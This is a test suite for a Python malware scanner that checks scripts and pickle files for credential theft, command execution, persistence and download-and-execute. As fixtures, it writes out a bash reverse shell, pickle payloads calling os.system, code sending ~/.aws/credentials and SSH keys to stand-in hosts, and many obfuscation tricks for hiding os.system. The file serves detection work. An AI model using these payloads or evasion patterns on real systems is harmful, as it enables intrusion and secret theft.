"""The code engine: taint from sources to sinks, name resolution, reachability, nested code.

Every entry of rules/flows.toml has a test here; every script is only written and scanned.
"""
import os
import pickle
import sys
import textwrap

import pytest

import malhug
from malhug.code.knowledge import flow_knowledge

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib


def scan_source(tmp_path, source, name="script.py"):
    path = tmp_path / name
    path.write_text(textwrap.dedent(source))
    report = malhug.scan(path)
    return report.files[0]


def categories(result, at_least="low"):
    gate = malhug.Severity.parse(at_least)
    return {f.category for f in result.findings if f.severity >= gate}


def flows_data():
    from importlib import resources
    return tomllib.loads(resources.files("malhug.rules").joinpath("flows.toml").read_text("utf-8"))


# -- sources: every entry, tainting data that is then sent away --------------------------------

SOURCE_CALLS = {
    "network": "{call}('http://example.invalid/a')",
    "secret": "{call}('service', 'user')",
    "env": "{call}('HOME')",
    "sysinfo": "{call}()",
    "listing": "{call}('/srv/data')",
    "file": "{call}('/srv/data/x.db')",
}


def _concrete(name: str) -> str:
    return name.replace("*", "system")


@pytest.mark.parametrize("name, label", sorted(flows_data()["sources"].items()))
def test_every_source_entry_taints_what_it_returns(tmp_path, name, label):
    knowledge = flow_knowledge()
    assert knowledge.source(_concrete(name)) == label
    if label in ("network", "file") or "." not in name:
        return  # network data sent back out is not exfiltration; file handles are checked by path
    module, _, attr = _concrete(name).rpartition(".")
    if module.count(".") and module.split(".")[-1][:1].isupper():
        return  # methods of instances are reached through objects, covered by the family tests
    is_attribute = name in ("os.environ", "os.environb")
    expression = f"{module}.{attr}" if is_attribute else SOURCE_CALLS[label].format(call=f"{module}.{attr}")
    result = scan_source(tmp_path, f"""
        import {module.split('.')[0]}
        import {module}
        import urllib.request
        value = {expression}
        urllib.request.urlopen('http://example.invalid/collect', data=str(value).encode())
    """)
    expected = {"secret": "credential_theft", "env": "recon_exfil", "sysinfo": "recon_exfil",
                "listing": "recon_exfil"}[label]
    if is_attribute:
        expected = "credential_theft"  # the whole environment holds every token
    assert expected in categories(result), [f.message for f in result.findings]


@pytest.mark.parametrize("pattern", flows_data()["secret_paths"]["patterns"])
def test_every_secret_path_makes_its_content_a_secret(tmp_path, pattern):
    path = pattern.replace("*", "x").replace("xx", "x")
    if not path.startswith(("/", "~")):
        path = "~/" + path.lstrip("x/")
    assert flow_knowledge().is_secret_path(path), path
    result = scan_source(tmp_path, f"""
        import requests
        data = open({path!r}, 'rb').read()
        requests.post('https://example.invalid/u', data=data)
    """)
    assert "credential_theft" in categories(result)


@pytest.mark.parametrize("pattern", flows_data()["secret_env"]["patterns"])
def test_every_secret_environment_name_is_a_secret(tmp_path, pattern):
    name = pattern.replace("*", "X")
    assert flow_knowledge().is_secret_env(name)
    result = scan_source(tmp_path, f"""
        import os, socket
        token = os.getenv({name!r})
        socket.gethostbyname(f"{{token}}.example.invalid")
    """)
    assert "credential_theft" in categories(result)


def test_ordinary_environment_values_are_host_facts_not_secrets(tmp_path):
    result = scan_source(tmp_path, """
        import os, requests
        requests.get('https://example.invalid/ping', params={'user': os.environ['USER']})
    """)
    assert categories(result) == {"recon_exfil"}


@pytest.mark.parametrize("pattern", flows_data()["persistence_paths"]["patterns"])
def test_every_persistence_path_is_persistence(tmp_path, pattern):
    path = pattern.replace("*", "x")
    if not path.startswith(("/", "~", "x")):
        path = "~/" + path
    assert flow_knowledge().is_persistence_path(path), path
    result = scan_source(tmp_path, f"""
        with open({path!r}, 'a') as handle:
            handle.write('echo hi\\n')
    """)
    assert "persistence" in categories(result), [f.message for f in result.findings]


@pytest.mark.parametrize("pattern", flows_data()["sensitive_paths"]["patterns"])
def test_every_sensitive_path_is_tampering_when_deleted(tmp_path, pattern):
    path = pattern.replace("*", "x")
    assert flow_knowledge().is_sensitive_path(path), path
    result = scan_source(tmp_path, f"""
        import shutil
        shutil.rmtree({path!r})
    """)
    assert "file_tamper" in categories(result)


def test_deleting_a_scratch_file_is_not_tampering(tmp_path):
    result = scan_source(tmp_path, """
        import os, tempfile
        scratch = os.path.join('build', 'part.tmp')
        os.remove(scratch)
    """)
    assert categories(result) == set()


@pytest.mark.parametrize("name, location", sorted(flows_data()["path_sources"].items()))
def test_every_path_source_names_its_location(tmp_path, name, location):
    module, _, attr = name.rpartition(".")
    call = f"{name}()" if name != "sysconfig.get_paths" else f"{name}()['purelib']"
    result = scan_source(tmp_path, f"""
        import {module.split('.')[0]}
        import {module}
        import shutil
        shutil.rmtree({call})
    """)
    findings = [f for f in result.findings if f.category == "file_tamper"]
    if flow_knowledge().is_sensitive_path(location) or location == "site-packages":
        assert findings and location.split("/")[0] in findings[0].message
    else:
        assert not findings  # the working folder and temp files are ordinary places


@pytest.mark.parametrize("name, index", sorted(flows_data()["code_strings"].items()))
def test_every_code_string_sink_has_its_code_analysed(tmp_path, name, index):
    module, _, attr = name.rpartition(".")
    payload = "\"__import__('os').system('id')\""
    if module[:1].isupper() or any(part[:1].isupper() for part in module.split(".")):
        owner, _, method = name.rpartition(".")
        cls_module, _, cls = owner.rpartition(".")
        call = f"{cls_module}.{cls}().{method}({payload})"
        imports = cls_module
    elif module == "builtins":
        call = f"{attr}({payload})"
        imports = "os"
    else:
        call = f"{name}({payload})"
        imports = module
    result = scan_source(tmp_path, f"""
        import {imports}
        {call}
    """)
    nested = [f for f in result.findings if "from a string" in f.message and f.category == "command_exec"]
    assert nested, [f.message for f in result.findings]


@pytest.mark.parametrize("name, where", sorted(flows_data()["spawners"].items()))
def test_every_spawner_runs_its_target(tmp_path, name, where):
    module, _, attr = name.rpartition(".")
    if where.isdigit():
        args = ["None"] * int(where) + ["payload"]
        call_args = ", ".join(args)
    else:
        call_args = f"{where}=payload"
    if module.split(".")[-1][:1].isupper():
        owner_module, _, cls = module.rpartition(".")
        call = f"{owner_module}.{cls}().{attr}({call_args})"
        imports = owner_module
    else:
        call = f"{name}({call_args})"
        imports = module
    result = scan_source(tmp_path, f"""
        import os
        import {imports}

        def payload(*args):
            os.system('id')

        {call}
    """)
    assert "command_exec" in categories(result, "high"), [f.message for f in result.findings]


# -- name resolution and obfuscation -----------------------------------------------------------

@pytest.mark.parametrize("expression", [
    "getattr(__import__('os'), 'system')('id')",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "__import__('importlib').import_module('os').system('id')",
    "__builtins__.__dict__['__import__']('os').system('id')",
    "sys.modules['os'].system('id')",
    "operator.attrgetter('system')(os)('id')",
    "operator.methodcaller('system', 'id')(os)",
    "functools.partial(os.system, 'id')()",
    "getattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
    "getattr(os, 'metsys'[::-1])('id')",
    "getattr(os, codecs.decode('flfgrz', 'rot13'))('id')",
    "getattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
    "getattr(os, bytes.fromhex('73797374656d').decode())('id')",
    "getattr(os, f\"{'sys'}{'tem'}\")('id')",
    "getattr(os, '%s%s' % ('sys', 'tem'))('id')",
    "getattr(os, '{}{}'.format('sys', 'tem'))('id')",
    "getattr(posix, 'system')('id')",
])
def test_hidden_names_resolve_to_the_real_callable(tmp_path, expression):
    result = scan_source(tmp_path, f"""
        import base64, codecs, functools, operator, os, posix, sys
        {expression}
    """)
    hits = [f for f in result.findings if f.category == "command_exec" and f.severity >= malhug.Severity.HIGH]
    assert hits and "os.system" in hits[0].message, [f.message for f in result.findings]


def test_plain_and_hidden_are_told_apart(tmp_path):
    plain = scan_source(tmp_path, "import os\nos.system('id')\n")
    hidden = scan_source(tmp_path, "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "hidden.py")
    assert max(f.severity for f in plain.findings) == malhug.Severity.HIGH
    assert max(f.severity for f in hidden.findings) == malhug.Severity.CRITICAL


def test_comprehension_decoding_is_folded(tmp_path):
    hidden = bytes(c ^ 7 for c in b"system")
    result = scan_source(tmp_path, f"""
        import os
        key = 7
        secret = bytes(c ^ key for c in {hidden!r})
        getattr(os, secret.decode())('id')
    """)
    assert any("os.system" in f.message for f in result.findings)


# -- data flow across statements, functions, classes and threads -------------------------------

def test_taint_flows_through_helpers_classes_and_return_values(tmp_path):
    result = scan_source(tmp_path, """
        import os, requests

        def read_key():
            path = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')
            with open(path) as handle:
                return handle.read()

        class Reporter:
            def __init__(self, url):
                self.url = url

            def send(self, payload):
                requests.post(self.url, data={'k': payload})

        Reporter('https://example.invalid/r').send(read_key())
    """)
    assert "credential_theft" in categories(result, "critical")


def test_taint_survives_either_branch(tmp_path):
    result = scan_source(tmp_path, """
        import os, urllib.request
        token = os.environ.get('HF_TOKEN')
        if not token:
            token = 'anonymous'
        urllib.request.urlopen('https://example.invalid/t?' + token)
    """)
    assert "credential_theft" in categories(result)


# -- reachability --------------------------------------------------------------------------------

def test_code_under_main_is_reported_one_level_lower(tmp_path):
    at_import = scan_source(tmp_path, "import subprocess\nsubprocess.run(['whoami'])\n")
    under_main = scan_source(tmp_path, "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['whoami'])\n",
                             "main.py")
    assert at_import.findings[0].severity == malhug.Severity.HIGH
    assert under_main.findings[0].severity == malhug.Severity.MEDIUM
    assert "when run as a script" in under_main.findings[0].message


def test_builder_methods_say_when_they_run(tmp_path):
    result = scan_source(tmp_path, """
        import os
        import datasets

        class Corpus(datasets.GeneratorBasedBuilder):
            def _split_generators(self, dl_manager):
                os.system('id')
                return []
    """)
    assert "while the dataset is built" in result.findings[0].message


def test_code_defined_but_never_called_is_still_read(tmp_path):
    result = scan_source(tmp_path, """
        import subprocess

        def maintenance():
            subprocess.call(['whoami'])
    """)
    assert "command_exec" in categories(result, "high")


# -- deserialization and payloads inside scripts -------------------------------------------------

class _Payload:
    def __reduce__(self):
        return (os.system, ("id",))


def test_a_pickle_hidden_in_a_script_is_read_by_the_pickle_machine(tmp_path):
    import base64

    blob = base64.b64encode(pickle.dumps(_Payload())).decode()
    result = scan_source(tmp_path, f"""
        import base64, pickle
        pickle.loads(base64.b64decode({blob!r}))
    """)
    nested = [f for f in result.findings if f.rule == "pickle-dangerous-callable"]
    assert nested and nested[0].location.member.startswith("<decoded at line 3>")
    assert str(result.verdict) == "malicious"


def test_reading_downloaded_data_is_not_a_finding(tmp_path):
    result = scan_source(tmp_path, """
        import csv, json, pickle, urllib.request
        import datasets

        class Data(datasets.GeneratorBasedBuilder):
            def _split_generators(self, dl_manager):
                path = dl_manager.download_and_extract('https://example.invalid/data.tar.gz')
                return [datasets.SplitGenerator(name='train', gen_kwargs={'path': path})]

            def _generate_examples(self, path):
                with open(path, 'rb') as handle:
                    batch = pickle.load(handle)
                for index, row in enumerate(batch):
                    yield index, {'text': json.dumps(row)}
    """)
    assert categories(result) == set()
    assert str(result.verdict) == "clean"


def test_running_code_read_from_a_download_is_download_and_execute(tmp_path):
    result = scan_source(tmp_path, """
        import datasets

        class Data(datasets.GeneratorBasedBuilder):
            def _split_generators(self, dl_manager):
                script = dl_manager.download('https://example.invalid/setup.py')
                exec(open(script).read())
                return []
    """)
    assert "download_exec" in categories(result, "critical")


# -- bad input -------------------------------------------------------------------------------------

def test_source_that_does_not_parse_is_inconclusive_but_patterns_still_run(tmp_path):
    result = scan_source(tmp_path, "print 'py2'\nos.system(\"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\")\n")
    assert str(result.verdict) == "inconclusive"
    assert "does not parse" in result.problems[0].reason
    assert any(f.rule.startswith("pattern-reverse-shell") for f in result.findings)


def test_a_decompression_bomb_in_code_is_bounded(tmp_path):
    import base64
    import zlib

    blob = base64.b64encode(zlib.compress(b"A" * (64 * 1024 * 1024))).decode()
    result = scan_source(tmp_path, f"""
        import base64, zlib
        exec(zlib.decompress(base64.b64decode('{blob}')))
    """)
    assert str(result.verdict) != "clean"
    assert any("budget" in p.reason for p in result.problems)


def test_code_string_that_does_not_parse_is_reported(tmp_path):
    result = scan_source(tmp_path, "exec('def broken(:')\n")
    assert any("code string does not parse" in p.reason for p in result.problems)


# -- pickles: the same engine reads the decompiled program ---------------------------------------

class _ReverseShellCommand:
    def __reduce__(self):
        return (os.system, ("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",))


class _ExecStealer:
    def __reduce__(self):
        return (exec, ("import os, urllib.request\n"
                       "key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
                       "urllib.request.urlopen('http://example.invalid/c', data=key.encode())\n",))


class _PlainCommand:
    def __reduce__(self):
        return (os.system, ("id",))


@pytest.mark.parametrize("payload, behaviour", [
    (_ReverseShellCommand(), "reverse_shell"),
    (_ExecStealer(), "credential_theft"),
])
def test_pickle_payloads_are_classified_by_behaviour(tmp_path, payload, behaviour):
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps(payload))
    result = malhug.scan(path).files[0]
    found = [f for f in result.findings if f.category == behaviour and not f.rule.startswith("pattern-")]
    assert found and found[0].severity == malhug.Severity.CRITICAL
    assert found[0].location.offset is not None


def test_a_plain_pickle_command_is_not_reported_twice(tmp_path):
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps(_PlainCommand()))
    result = malhug.scan(path).files[0]
    assert [f.rule for f in result.findings if f.severity >= malhug.Severity.LOW] == ["pickle-dangerous-callable"]


def test_pickle_download_and_execute_through_chained_calls(tmp_path):
    import opcodes as op

    # exec(getattr(urllib.request.urlopen(URL), 'read')()) written as REDUCE chains
    response = (op.global_("urllib.request", "urlopen") + op.short_binunicode("http://example.invalid/p")
                + op.tuple1() + op.reduce())
    reader = op.global_("builtins", "getattr") + response + op.short_binunicode("read") + op.tuple2() + op.reduce()
    body = reader + op.empty_tuple() + op.reduce()
    stream = op.proto(2) + op.global_("builtins", "exec") + body + op.tuple1() + op.reduce() + op.stop()
    path = tmp_path / "model.pkl"
    path.write_bytes(stream)
    result = malhug.scan(path).files[0]
    found = [f for f in result.findings if f.rule == "pickle-download-exec"]
    assert found and found[0].severity == malhug.Severity.CRITICAL, [f.message for f in result.findings]


def test_changing_an_objects_attributes_is_not_patching_a_library(tmp_path):
    benign = scan_source(tmp_path, """
        import torch

        class Block(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.proj = torch.nn.Linear(4, 4)

            def forward(self, x):
                saved = self.proj.bias.data
                self.proj.bias.data = torch.zeros_like(saved)
                out = self.proj(x)
                self.proj.bias.data = saved
                return out
    """)
    assert categories(benign) == set()
    patched = scan_source(tmp_path, """
        import torch

        def forward(self, x):
            return x

        torch.nn.Linear.forward = forward
    """, "patch.py")
    assert "model_tamper" in categories(patched, "high")
